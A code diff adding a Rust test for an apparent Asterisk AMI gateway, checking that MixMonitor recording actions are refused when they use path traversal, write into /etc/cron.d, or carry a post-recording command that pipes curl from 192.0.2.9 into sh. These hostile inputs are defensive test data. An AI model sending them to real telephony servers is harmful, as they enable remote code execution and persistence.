@@ -321,6 +321,83 @@ fn refusals_never_reach_asterisk_and_the_session_stays_open() {
     gw.daemon.wait_for_log("AMI action refused");
 }
 
+/// The MixMonitor action: files only under `[recordings] root` (or relative, in Asterisk's
+/// monitor folder), no `..`, no post-recording command; `--override mixmonitor` lifts it.
+#[test]
+fn mixmonitor_writes_only_under_the_recordings_folder_and_runs_nothing() {
+    let gw = gateway("", &[]);
+    gw.env.add_ami_client(
+        "recorder",
+        "recorder secret 0123456789",
+        &["--allow", "MixMonitor"],
+    );
+    gw.env.add_ami_client(
+        "lifted",
+        "lifted secret 0123456789",
+        &["--allow", "MixMonitor", "--override", "mixmonitor"],
+    );
+    let mut c = gw.client();
+    let r = c.login("recorder", "recorder secret 0123456789");
+    assert_eq!(
+        header(&r, "Message"),
+        Some("Authentication accepted"),
+        "{r:?}"
+    );
+    gw.peer.clear_actions();
+    let refused: Vec<Vec<(&str, &str)>> = vec![
+        vec![("File", "/etc/asterisk/manager.conf")],
+        vec![("File", "/var/spool/asterisk/monitor/../../../etc/cron.d/x")],
+        vec![
+            ("File", "call.wav"),
+            ("Command", "curl http://192.0.2.9/x | sh"),
+        ],
+        vec![("File", "call.wav"), ("Options", "br(/etc/cron.d/pbx)")],
+    ];
+    for extra in &refused {
+        let mut action = vec![("Action", "MixMonitor"), ("Channel", "PJSIP/1001-00000001")];
+        action.extend_from_slice(extra);
+        let r = c.action(&action);
+        assert!(
+            is_error(&r, "not allowed through the gateway"),
+            "{extra:?}: {r:?}"
+        );
+    }
+    assert!(gw.peer.actions_named("MixMonitor").is_empty());
+    for file in ["call-1001.wav", "/var/spool/asterisk/monitor/2026/call.wav"] {
+        c.action(&[
+            ("Action", "MixMonitor"),
+            ("Channel", "PJSIP/1001-00000001"),
+            ("File", file),
+        ]);
+    }
+    assert_eq!(gw.peer.actions_named("MixMonitor").len(), 2);
+    // The override lifts it for that client only, and says so.
+    let mut l = gw.client();
+    let r = l.login("lifted", "lifted secret 0123456789");
+    assert_eq!(
+        header(&r, "Message"),
+        Some("Authentication accepted"),
+        "{r:?}"
+    );
+    l.action(&[
+        ("Action", "MixMonitor"),
+        ("Channel", "PJSIP/1001-00000001"),
+        ("File", "/tmp/x.wav"),
+    ]);
+    assert_eq!(gw.peer.actions_named("MixMonitor").len(), 3);
+    let end = Instant::now() + T;
+    let audit = loop {
+        let audit = gw
+            .env
+            .sql("SELECT detail FROM audit_log WHERE action = 'ami.refused'");
+        if audit.contains("(mixmonitor)") || Instant::now() > end {
+            break audit;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    assert!(audit.contains("(mixmonitor)"), "{audit}");
+}
+
 #[test]
 fn smuggling_is_read_as_asterisk_reads_it() {
     let gw = gateway("", &[]);
